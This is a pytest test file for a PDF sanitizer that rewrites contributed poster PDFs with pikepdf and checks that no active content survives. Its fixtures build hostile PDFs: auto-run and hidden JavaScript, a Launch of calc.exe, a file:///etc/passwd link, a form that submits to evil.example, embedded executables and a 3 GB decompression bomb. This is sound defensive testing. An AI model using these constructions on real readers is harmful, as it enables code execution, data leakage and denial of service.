"""Poster PDFs (issue 21 'sanitize what cannot be verified', issue 22 'LaTeX-made posters'): the
published file is the one pikepdf rewrote, with nothing left that a reader would run or open;
whatever a hostile file hides and however it hides it. A hyperref poster is published as made."""

from __future__ import annotations

import io
import subprocess
import zlib
from pathlib import Path

import pikepdf
import pytest
from conftest import require, require_tool
from pdf_payloads import (
    ALERT,
    CATALOG,
    ENCODINGS,
    JS_ACTION,
    PAGE,
    PAGES,
    hidden_javascript,
    one_page,
    raw_pdf,
    running_parts,
)
from sphinx_workshop_site.gate import pdfclean, pdffile
from sphinx_workshop_site.gate.pdffile import MAX_PDF_BYTES, PdfRefused, rewrite_pdf_bytes, rewrite_pdf_file

REL = "abstracts/x-poster.pdf"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A %s >>"
WIDGET = b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 50 50] %s >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length 9 >>\nstream\nMZpayload\nendstream"

HOSTILE = {
    "JavaScript run on opening": one_page(b"/OpenAction 4 0 R", more={4: JS_ACTION}),
    **{f"JavaScript hidden in an object stream ({how})": hidden_javascript(how) for how in ENCODINGS},
    "Launch in a link annotation": one_page(
        page=b"/Annots [%s]" % (LINK % b"<< /S /Launch /F (calc.exe) >>")
    ),
    "javascript: URI in a link": one_page(
        page=b"/Annots [%s]" % (LINK % (b"<< /S /URI /URI (javascript:" + ALERT + b") >>"))
    ),
    "file: URI in a link": one_page(
        page=b"/Annots [%s]" % (LINK % b"<< /S /URI /URI (file:///etc/passwd) >>")
    ),
    "GoToR in a link": one_page(
        page=b"/Annots [%s]" % (LINK % b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")
    ),
    "JavaScript chained after a GoTo": one_page(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", more={4: JS_ACTION}
    ),
    "actions on page events (/AA)": one_page(page=b"/AA << /O 4 0 R /C 4 0 R >>", more={4: JS_ACTION}),
    "document actions (/AA)": one_page(b"/AA << /WC 4 0 R /WP 4 0 R >>", more={4: JS_ACTION}),
    "embedded file (name tree)": one_page(
        b"/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> /PageMode /UseAttachments",
        more={4: b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>", 5: EMBEDDED},
    ),
    "file attachment annotation": one_page(
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]",
        more={4: b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>", 5: EMBEDDED},
    ),
    "document JavaScript (name tree)": one_page(
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more={4: JS_ACTION}
    ),
    "XFA form with a script": one_page(
        b"/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true",
        more={4: b"<< /Length 40 >>\nstream\n<script>" + ALERT + b"</script>\n\nendstream"},
    ),
    "form field that submits and runs": one_page(
        b"/AcroForm << /Fields [4 0 R] >>",
        page=b"/Annots [4 0 R]",
        more={
            4: WIDGET % b"/A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K 5 0 R >>",
            5: JS_ACTION,
        },
    ),
    "JavaScript in an outline item": one_page(
        b"/Outlines 4 0 R",
        more={
            4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            5: b"<< /Title (Go) /Parent 4 0 R /A 6 0 R >>",
            6: JS_ACTION,
        },
    ),
    "media: screen annotation with a rendition": one_page(
        page=b"/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS ("
        + ALERT
        + b") >> >>]"
    ),
    "name spelt with #xx escapes": one_page(b"/OpenAction << /S /J#61vaScript /J#53 (" + ALERT + b") >>"),
    "JavaScript in an object nothing references": one_page(
        more={4: JS_ACTION, 5: b"<< /OpenAction 4 0 R >>"}
    ),
    "JavaScript action as a stream": one_page(
        b"/OpenAction << /S /JavaScript /JS 4 0 R >>",
        more={4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(ALERT), ALERT)},
    ),
}


@pytest.fixture(scope="module")
def rewritten(tmp_path_factory) -> dict[str, tuple[bytes, list[str]]]:
    """Each hostile file rewritten once: (the published bytes, what was said removed)."""
    folder = tmp_path_factory.mktemp("rewritten")
    out = {}
    for number, (name, data) in enumerate(HOSTILE.items()):
        removed = rewrite_pdf_bytes(data, REL, folder / f"{number}.pdf")
        out[name] = ((folder / f"{number}.pdf").read_bytes(), removed)
    return out


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_poster_is_published_with_nothing_that_runs(rewritten, case):
    """The payload is live in the contributor's file (pikepdf, as a reader, finds it); the
    published copy holds none of it, its page is intact, and the author is told what went."""
    assert running_parts(HOSTILE[case]), "the payload must be live in the original"
    published, removed = rewritten[case]
    assert running_parts(published) == []
    with pikepdf.open(io.BytesIO(published)) as pdf:
        assert len(pdf.pages) == 1 and [float(v) for v in pdf.pages[0].MediaBox] == [0, 0, 200, 200]
    assert removed, "what was removed is said"


def test_what_was_removed_is_said_in_the_authors_words(rewritten):
    assert rewritten["JavaScript run on opening"][1] == [
        "an action run when the file is opened",
        "JavaScript",
    ]
    assert rewritten["Launch in a link annotation"][1] == ["actions that start a program"]
    assert rewritten["javascript: URI in a link"][1] == ["links to addresses other than http(s)"]
    assert "embedded files" in rewritten["embedded file (name tree)"][1]


def test_a_link_with_a_bad_action_goes_and_the_others_stay(tmp_path):
    data = one_page(
        page=b"/Annots [%s %s %s]"
        % (
            LINK % b"<< /S /URI /URI (https://example.org/paper?id=1) >>",
            LINK % b"<< /S /Launch /F (calc.exe) >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>",
        )
    )
    rewrite_pdf_bytes(data, REL, tmp_path / "out.pdf")
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        links = list(pdf.pages[0].Annots)
        assert [str(a.A.URI) if "/A" in a else "dest" for a in links] == [
            "https://example.org/paper?id=1",
            "dest",
        ]


def test_hyperref_view_setting_is_kept_and_nothing_is_said(tmp_path):
    """hyperref writes /OpenAction [page /Fit] (or a GoTo to it): a view setting, never refused."""
    for open_action in (b"[3 0 R /Fit]", b"<< /S /GoTo /D [3 0 R /Fit] >>"):
        data = one_page(
            b"/OpenAction " + open_action + b" /Names << /Dests 4 0 R >> /PageMode /UseOutlines",
            page=b"/Annots [%s]" % (LINK % b"<< /S /GoTo /D (sec.1) >>"),
            more={4: b"<< /Names [(sec.1) [3 0 R /XYZ 0 200 null]] >>"},
        )
        assert rewrite_pdf_bytes(data, REL, tmp_path / "out.pdf") == []
        with pikepdf.open(tmp_path / "out.pdf") as pdf:
            action = pdf.Root.OpenAction
            destination = action if isinstance(action, pikepdf.Array) else action.D
            assert destination[1] == pikepdf.Name.Fit and destination[0].objgen == pdf.pages[0].objgen
            assert list(pdf.Root.Names.keys()) == ["/Dests"]
            assert str(pdf.pages[0].Annots[0].A.D) == "sec.1"


TIKZPOSTER = r"""\documentclass{tikzposter}
\usepackage{hyperref}
\title{Low-rank tensor trains} \author{A. Author} \institute{Somewhere}
\begin{document}
\maketitle
\block{Idea}{See \href{https://example.org/paper?id=1}{the paper} and Block~\ref{b:m}.}
\block{Method}{\label{b:m} $\alpha \in \mathbb{R}$.}
\end{document}
"""


def test_a_real_tikzposter_made_with_hyperref_is_published_as_made(tmp_path):
    """The case issue 22 reported: every hyperref PDF was refused for its /OpenAction."""
    require_tool("pdflatex", "a LaTeX poster is compiled to test its publication")
    found = subprocess.run(["kpsewhich", "tikzposter.cls"], capture_output=True, text=True).stdout.strip()
    require(bool(found), "tikzposter.cls is not installed (Debian: texlive-latex-extra)")
    (tmp_path / "poster.tex").write_text(TIKZPOSTER)
    for _ in range(2):  # the second run resolves the reference
        subprocess.run(
            ["pdflatex", "-interaction=nonstopmode", "-no-shell-escape", "poster.tex"],
            cwd=tmp_path,
            capture_output=True,
            timeout=300,
            check=False,
        )
    original = (tmp_path / "poster.pdf").read_bytes()
    with pikepdf.open(io.BytesIO(original)) as pdf:
        assert "/OpenAction" in pdf.Root  # what the old check refused
    removed = rewrite_pdf_file(tmp_path, "poster.pdf", tmp_path / "published.pdf")
    assert removed == []
    assert (tmp_path / "poster.pdf").read_bytes() == original  # the contributor's file is untouched
    with pikepdf.open(tmp_path / "published.pdf") as pdf:
        assert len(pdf.pages) == 1 and "/OpenAction" in pdf.Root
        uris = [str(a.A.URI) for a in pdf.pages[0].get("/Annots", []) if a.A.get("/S") == "/URI"]
        assert uris == ["https://example.org/paper?id=1"]
    pdftotext = require_tool("pdftotext", "the poster's text is read back")
    text = subprocess.run([pdftotext, str(tmp_path / "published.pdf"), "-"], capture_output=True, text=True)
    assert "Low-rank tensor trains" in text.stdout and "the paper" in text.stdout


# --------------------------------------------------------------------------- refused, one line each


def _encrypted(user: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf (Hello) Tj ET")
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_encrypted("secret"), f"'{REL}' is encrypted: export it without a password"),
        (
            b"%PDF-1.7\nnot a PDF at all",
            f"'{REL}' cannot be read as a PDF (pikepdf cannot open or rewrite it)",
        ),
        (
            b"\x89PNG\r\n\x1a\n",
            f"'{REL}' is not a PDF file (its content says otherwise): export the poster as PDF",
        ),
        (b"%PDF-1.4\n" + b"0" * MAX_PDF_BYTES, f"'{REL}' has 20,000,009 bytes, over the limit of 20,000,000"),
    ],
)
def test_refused_in_one_line_naming_the_file(tmp_path, data, message):
    with pytest.raises(PdfRefused) as refused:
        rewrite_pdf_bytes(data, REL, tmp_path / "out.pdf")
    assert str(refused.value).startswith(message) and "\n" not in str(refused.value)
    assert not (tmp_path / "out.pdf").exists() and list(tmp_path.iterdir()) == []  # no part left behind


def test_encrypted_without_a_password_is_published_decrypted(tmp_path):
    """Restrictions only (an owner password, no user password): any reader opens it, so do we."""
    assert rewrite_pdf_bytes(_encrypted(""), REL, tmp_path / "out.pdf") == []
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        assert not pdf.is_encrypted and b"(Hello) Tj" in pdf.pages[0].Contents.read_bytes()


def test_the_contributors_file_is_never_modified(tmp_path):
    (tmp_path / "abstracts").mkdir()
    (tmp_path / REL).write_bytes(HOSTILE["JavaScript run on opening"])
    rewrite_pdf_file(tmp_path, REL, tmp_path / "build/x-poster.pdf")
    assert (tmp_path / REL).read_bytes() == HOSTILE["JavaScript run on opening"]
    assert running_parts((tmp_path / "build/x-poster.pdf").read_bytes()) == []


def test_a_link_is_refused_not_followed(tmp_path):
    (tmp_path / "abstracts").mkdir()
    (tmp_path / "elsewhere.pdf").write_bytes(one_page())
    (tmp_path / REL).symlink_to(tmp_path / "elsewhere.pdf")
    with pytest.raises(PdfRefused, match="must be a regular file, not a link"):
        rewrite_pdf_file(tmp_path, REL, tmp_path / "out.pdf")


# --------------------------------------------------------------------------- bounded, and verified


def _inflating_to(expanded: int):
    """An object-stream encoder whose output inflates to the content and ``expanded`` more spaces,
    in a small file (one compressed block of spaces repeated, each ending with a full flush)."""

    def encode(content: bytes) -> tuple[bytes, bytes]:
        block = b" " * (1 << 20)
        packer = zlib.compressobj(9)
        first = packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)
        repeated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
        checksum = zlib.adler32(content)
        for _ in range(expanded // len(block)):
            checksum = zlib.adler32(block, checksum)
        data = first + repeated * (expanded // len(block)) + b"\x03\x00"  # an empty final block
        return b"/Filter /FlateDecode", data + checksum.to_bytes(4, "big")

    return encode


def test_an_object_stream_bomb_costs_a_bounded_child_not_the_build(tmp_path, monkeypatch):
    """3 GB of object stream from ~10 MB of file: the child runs out of its address space (the
    limit, lowered here so that the test costs little), and the file is refused or published
    without the object it could not read: never the JavaScript, never the build's memory."""
    monkeypatch.setattr(pdffile, "REWRITE_MEMORY_BYTES", 400_000_000)
    data = raw_pdf(
        {1: CATALOG % b"/OpenAction 4 0 R", 2: PAGES, 3: PAGE % b""}, {4: JS_ACTION}, _inflating_to(3 << 30)
    )
    assert len(data) < MAX_PDF_BYTES
    try:
        rewrite_pdf_bytes(data, REL, tmp_path / "out.pdf")
    except PdfRefused as refused:
        assert "needs more than 400 MB of memory, 60 s or a 40 MB result" in str(
            refused
        ) or "cannot be read" in str(refused)
    else:
        assert running_parts((tmp_path / "out.pdf").read_bytes()) == []


def test_a_child_that_crashes_is_a_refusal_not_a_traceback(tmp_path, monkeypatch):
    crash = tmp_path / "crash.py"
    crash.write_text("import os\nos.abort()\n")
    monkeypatch.setattr(pdffile, "PDFCLEAN", crash)
    with pytest.raises(PdfRefused, match="to rewrite"):
        rewrite_pdf_bytes(one_page(), REL, tmp_path / "out.pdf")
    assert not (tmp_path / "out.pdf").exists()


def test_the_final_check_catches_what_the_cleaning_missed(tmp_path, monkeypatch):
    """The saved file is verified by a walk of its own: were the cleaning to miss something (here:
    not run at all), the file is not published and the build says whose fault it is."""
    monkeypatch.setattr(pdfclean, "clean", lambda pdf: [])
    source = io.BytesIO(HOSTILE["JavaScript hidden in an object stream (AHx)"])
    outcome = pdfclean.rewrite(source, str(tmp_path / "out.pdf"))
    assert outcome["status"] == "residue" and "/JavaScript" in outcome["found"]
    monkeypatch.setattr(pdffile, "_run_child", lambda data, part: outcome)
    with pytest.raises(
        PdfRefused, match=r"still holds .*/JavaScript.* after its rewrite, so it is not published"
    ):
        rewrite_pdf_bytes(one_page(), REL, tmp_path / "published.pdf")
    assert not (tmp_path / "published.pdf").exists()


def test_the_child_sees_no_project_code_and_no_environment(tmp_path, monkeypatch):
    """pdfclean.py runs as `python -I`: PYTHONPATH (and the script's own folder) are not on its
    path, so a module planted there is never imported; only the standard library and pikepdf."""
    planted = tmp_path / "planted"
    planted.mkdir()
    marker = tmp_path / "imported"
    (planted / "pikepdf.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.setenv("PYTHONPATH", str(planted))
    assert rewrite_pdf_bytes(one_page(), REL, tmp_path / "out.pdf") == []
    assert not marker.exists()
    assert "from ." not in Path(pdffile.PDFCLEAN).read_text()  # it imports nothing of the project


def test_a_rewrite_past_its_output_limit_is_refused_in_one_line(tmp_path, monkeypatch):
    """The child may write at most REWRITE_OUTPUT_BYTES (lowered here below a one-page file)."""
    monkeypatch.setattr(pdffile, "REWRITE_OUTPUT_BYTES", 100)
    with pytest.raises(PdfRefused) as refused:
        rewrite_pdf_bytes(one_page(), REL, tmp_path / "out.pdf")
    assert str(refused.value).startswith(f"'{REL}' needs more than 1,500 MB of memory, 60 s or a 0 MB result")
    assert list(tmp_path.iterdir()) == []
